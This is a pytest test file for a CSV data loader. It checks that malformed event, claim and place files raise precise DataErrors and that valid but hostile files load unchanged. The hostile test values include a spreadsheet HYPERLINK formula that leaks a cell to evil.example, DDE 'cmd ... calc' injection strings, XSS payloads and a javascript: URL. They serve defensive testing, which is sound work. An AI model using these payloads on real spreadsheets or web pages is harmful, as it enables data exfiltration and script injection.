"""Malformed and hostile files: every problem is a DataError that points at the cell to fix.

The fixtures in tests/fixtures/bad/ are written by make_fixtures.py there. Each bad file breaks
one thing, so its DataError must name the file, the row (spreadsheet numbering: header = row 1)
and the column, or no column for problems of the whole line or file (encoding, field count).
The "loads" files are valid but hostile (formulas, HTML, BOM, CRLF ...): they must load, and
their text must come back exactly as written: escaping is the renderer's job, not the loader's.
"""

from __future__ import annotations

import contextlib
import importlib.util
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest

import lessons
from lessons import DataError
from lessons.data import datapackage, load_table, resource
from lessons.errors import CODES
from lessons.icews import load_icews_raw
from lessons.reader import read

BAD = Path(__file__).resolve().parent / "fixtures" / "bad"
LOADS = "loads"
_ = None  # "not checked": no column for whole-line problems, no row for whole-file ones

# file name -> (row, column, bad value or None) of the first problem, or LOADS.
EXPECTED: dict[str, tuple[int | None, str | None, str | None] | str] = {
    "valid_events.csv": LOADS,
    # structure
    "events_empty.csv": (_, _, _),
    "events_bom_only.csv": (_, _, _),
    "events_header_only.csv": (2, _, _),
    "events_missing_column.csv": (1, "category", _),
    "events_duplicate_header.csv": (1, "title", _),
    "events_truncated_unclosed_quote.csv": (4, _, _),
    "events_truncated_mid_row.csv": (4, _, _),
    "events_semicolon_delimited.csv": (1, _, _),
    "events_tab_delimited.csv": (1, _, _),
    "events_extra_field.csv": (3, _, _),
    "events_short_row.csv": (4, _, _),
    "events_blank_line_then_error.csv": (4, "category", "sports"),
    "events_whitespace_line.csv": (3, _, _),
    "events_nul_byte.csv": (3, _, _),
    # encodings
    "events_latin1.csv": (2, _, _),
    "events_cp1252.csv": (2, _, _),
    "events_mixed_encodings.csv": (4, _, _),
    "events_utf16.csv": (1, _, _),
    # dates
    "events_bad_date.csv": (2, "date", "25/05/1992"),
    "events_impossible_date.csv": (3, "date", "2019-02-30"),
    "events_date_out_of_range.csv": (2, "date", "1890-05-25"),
    "events_date_year_9999.csv": (4, "source_date", "9999-12-31"),
    "events_fullwidth_digits_date.csv": (3, "date", "１９９７-12-15"),
    "events_nan_in_required_date.csv": (2, "date", "NaN"),
    "events_end_date_before_date.csv": (3, "end_date", "1997-12-01"),
    # values
    "events_unknown_category.csv": (4, "category", "sports"),
    "events_duplicate_event_id.csv": (
        4,
        "event_id",
        "1992-05-25-treaty-on-principles-of-relations",
    ),
    "events_goldstein_out_of_range.csv": (2, "goldstein", "12.5"),
    "events_goldstein_not_matching_root.csv": (3, "goldstein", "-10.0"),
    "events_quad_class_not_matching_root.csv": (2, "quad_class", "4"),
    "events_cameo_root_as_number.csv": (2, "cameo_root", "5"),
    "events_dangling_place_id.csv": (3, "place_id", "atlantis"),
    "events_empty_required_field.csv": (3, "actors", ""),
    "events_nan_in_number.csv": (2, "goldstein", "NaN"),
    "events_huge_integer.csv": (4, "quad_class", "99999999999999999999"),
    "events_arabic_indic_digit.csv": (2, "fatalities", "٣"),
    "events_summary_too_long.csv": (2, "summary", "s" * 401),
    "events_huge_field.csv": (3, "title", "x" * 200_000),
    "events_in_report_yes.csv": (2, "in_report", "yes"),
    "events_url_not_http.csv": (2, "source_url", "javascript:alert(1)"),
    "events_blank_title.csv": (4, "title", ""),
    # other datasets
    "claim_events_dangling_event_id.csv": (3, "event_id", "2020-02-30-no-such-event"),
    "report_claims_with_event_ids_column.csv": (1, "event_ids", _),
    "places_latitude_123.csv": (2, "latitude", "123"),
    # valid but hostile
    "events_utf8_bom.csv": LOADS,
    "events_formula_cell.csv": LOADS,
    "events_html_in_title.csv": LOADS,
    "events_crlf.csv": LOADS,
    "events_blank_line.csv": LOADS,
    "events_quoted_newline.csv": LOADS,
    "events_unicode_controls.csv": LOADS,
    "events_extra_column.csv": LOADS,
}
# file name -> the machine-readable code of its problem(s) (lessons.errors.CODES).
CODE: dict[str, str] = {
    "claim_events_dangling_event_id.csv": "foreign-key-error",
    "events_arabic_indic_digit.csv": "type-error",
    "events_bad_date.csv": "type-error",
    "events_blank_line_then_error.csv": "constraint-error",
    "events_blank_title.csv": "missing-value",
    "events_bom_only.csv": "source-error",
    "events_cameo_root_as_number.csv": "constraint-error",
    "events_cp1252.csv": "encoding-error",
    "events_dangling_place_id.csv": "foreign-key-error",
    "events_date_out_of_range.csv": "constraint-error",
    "events_date_year_9999.csv": "type-error",
    "events_duplicate_event_id.csv": "unique-error",
    "events_duplicate_header.csv": "header-error",
    "events_empty.csv": "source-error",
    "events_empty_required_field.csv": "missing-value",
    "events_end_date_before_date.csv": "consistency-error",
    "events_extra_field.csv": "extra-cell",
    "events_fullwidth_digits_date.csv": "type-error",
    "events_goldstein_not_matching_root.csv": "consistency-error",
    "events_goldstein_out_of_range.csv": "constraint-error",
    "events_header_only.csv": "format-error",
    "events_huge_field.csv": "constraint-error",
    "events_huge_integer.csv": "type-error",
    "events_impossible_date.csv": "type-error",
    "events_in_report_yes.csv": "type-error",
    "events_latin1.csv": "encoding-error",
    "events_missing_column.csv": "header-error",
    "events_mixed_encodings.csv": "encoding-error",
    "events_nan_in_number.csv": "type-error",
    "events_nan_in_required_date.csv": "type-error",
    "events_nul_byte.csv": "source-error",
    "events_quad_class_not_matching_root.csv": "consistency-error",
    "events_semicolon_delimited.csv": "format-error",
    "events_short_row.csv": "missing-cell",
    "events_summary_too_long.csv": "constraint-error",
    "events_tab_delimited.csv": "format-error",
    "events_truncated_mid_row.csv": "missing-cell",
    "events_truncated_unclosed_quote.csv": "format-error",
    "events_unknown_category.csv": "constraint-error",
    "events_url_not_http.csv": "constraint-error",
    "events_utf16.csv": "encoding-error",
    "events_whitespace_line.csv": "missing-cell",
    "places_latitude_123.csv": "constraint-error",
    "report_claims_with_event_ids_column.csv": "header-error",
}
ERRORS = sorted(k for k, v in EXPECTED.items() if v != LOADS)
LOADING = sorted(k for k, v in EXPECTED.items() if v == LOADS)

IDS = [
    "1992-05-25-treaty-on-principles-of-relations",  # row 2
    "1997-12-15-blue-stream-intergovernmental-agreement",  # row 3
    "2001-11-16-eurasia-action-plan",  # row 4
]
# Hostile text that must come back verbatim: file -> {(row, column): text}.
VERBATIM: dict[str, dict[tuple[int, str], str]] = {
    "events_formula_cell.csv": {
        (2, "title"): '=HYPERLINK("http://evil.example/?leak="&A1,"Click for sources")',
        (3, "key_numbers"): "+cmd|' /C calc'!A0",
        (4, "note"): "@SUM(1+1)*cmd|' /C calc'!A0",
    },
    "events_html_in_title.csv": {
        (2, "title"): "<script>alert(1)</script>",
        (3, "title"): "<img src=x onerror=alert(1)>",
        (4, "summary"): '</td><b onmouseover="alert(1)">bold</b> &amp; &lt;',
    },
    "events_quoted_newline.csv": {
        (2, "summary"): (
            "First line of the summary.\nSecond line, after a newline.\n\nA third paragraph."
        ),
    },
    "events_unicode_controls.csv": {
        (2, "title"): "Turkey \u202eaissuR\u202c talks \u200d👩\u200d💻 e\u0301",
    },
}
# Files whose data must equal valid_events.csv exactly, with the line each record starts on.
SAME_AS_VALID = {
    "events_utf8_bom.csv": [2, 3, 4],
    "events_crlf.csv": [2, 3, 4],
    "events_blank_line.csv": [2, 4, 5],
    "events_extra_column.csv": [2, 3, 4],
}


def loader_for(name: str) -> Callable[[Path], pd.DataFrame]:
    if name.startswith("claim_events"):
        return lambda path: lessons.load_report_claims(links=path)
    if name.startswith("report_claims"):
        return lessons.load_report_claims
    if name.startswith("places"):
        return lessons.load_places
    return lessons.load_events


def fixture_files() -> list[str]:
    return sorted(p.name for p in BAD.iterdir() if p.suffix == ".csv")


def test_every_fixture_has_an_expectation() -> None:
    assert fixture_files() == sorted(EXPECTED)
    assert sorted(CODE) == ERRORS
    assert len(EXPECTED) >= 32


def test_fixtures_match_their_generator() -> None:
    spec = importlib.util.spec_from_file_location("make_fixtures", BAD / "make_fixtures.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)  # builds FIXTURES in memory; writes nothing
    assert sorted(module.FIXTURES) == sorted(EXPECTED)
    for name, content in module.FIXTURES.items():
        data = content.encode("utf-8") if isinstance(content, str) else content
        assert (BAD / name).read_bytes() == data, f"{name} is stale: rerun make_fixtures.py"


@pytest.mark.parametrize("name", ERRORS)
def test_bad_file_raises_a_data_error_naming_the_cell(name: str) -> None:
    row, column, value = EXPECTED[name]
    path = BAD / name
    with pytest.raises(DataError) as info:
        loader_for(name)(path)
    err = info.value
    message = str(err)
    assert name in message
    assert err.path == str(path)
    assert (err.row, err.column) == (row, column), message
    if row is not None:
        assert f"row {row}" in message
    if column is not None:
        assert f"column '{column}'" in message
    if value is not None:
        assert err.value == value
        assert repr(value[:20])[:-1] in message  # long values are shortened with "…"
    assert err.rule and err.rule in message
    assert err.code == CODE[name] and {p.code for p in err.problems} == {CODE[name]}
    assert all(p.code in CODES for p in err.problems)
    assert {(p.row, p.column) for p in err.problems} == {(row, column)}, message
    assert len(set(err.problems)) == len(err.problems), "a problem is reported twice"
    assert "Traceback" not in message and "Error(" not in message


@pytest.mark.parametrize("name", LOADING)
def test_hostile_but_valid_file_loads_verbatim(name: str) -> None:
    frame = loader_for(name)(BAD / name)
    assert list(frame["event_id"]) == IDS
    by_id = frame.set_index("event_id")
    for (row, column), text in VERBATIM.get(name, {}).items():
        assert by_id.at[IDS[row - 2], column] == text


@pytest.mark.parametrize("name", sorted(SAME_AS_VALID))
def test_layout_variants_load_the_same_data(name: str) -> None:
    valid = lessons.load_events(BAD / "valid_events.csv")
    frame = lessons.load_events(BAD / name)
    pd.testing.assert_frame_equal(frame[valid.columns], valid)
    assert read(BAD / name, resource("events")["schema"]).rows == SAME_AS_VALID[name]


def test_valid_base_matches_its_rows_in_the_bundled_events() -> None:
    valid = lessons.load_events(BAD / "valid_events.csv")
    bundled = lessons.load_events().set_index("event_id").loc[IDS].reset_index()
    pd.testing.assert_frame_equal(valid, bundled)


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_loading_never_modifies_the_file(name: str) -> None:
    path = BAD / name
    before = (path.read_bytes(), path.stat().st_mtime_ns, sorted(BAD.iterdir()))
    with contextlib.suppress(DataError):
        loader_for(name)(path)
    assert (path.read_bytes(), path.stat().st_mtime_ns, sorted(BAD.iterdir())) == before


def _table_loaders() -> dict[str, Callable[[Path], object]]:
    loaders: dict[str, Callable[[Path], object]] = {
        res["name"]: (lambda p, n=res["name"]: load_table(n, p))
        for res in datapackage()["resources"]
        if res.get("format") in ("csv", "tsv")
    }
    loaders["icews_raw"] = load_icews_raw
    return loaders


LOADERS = _table_loaders()


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_no_fixture_gives_a_bare_traceback(name: str) -> None:
    """Whatever table a fixture is loaded as, the outcome is a frame or a DataError."""
    for table, load in LOADERS.items():
        try:
            load(BAD / name)
        except DataError as err:
            assert name in str(err), table
        except Exception as err:  # pragma: no cover - the failure being tested for
            pytest.fail(f"{name} as {table}: {type(err).__name__}: {err}")
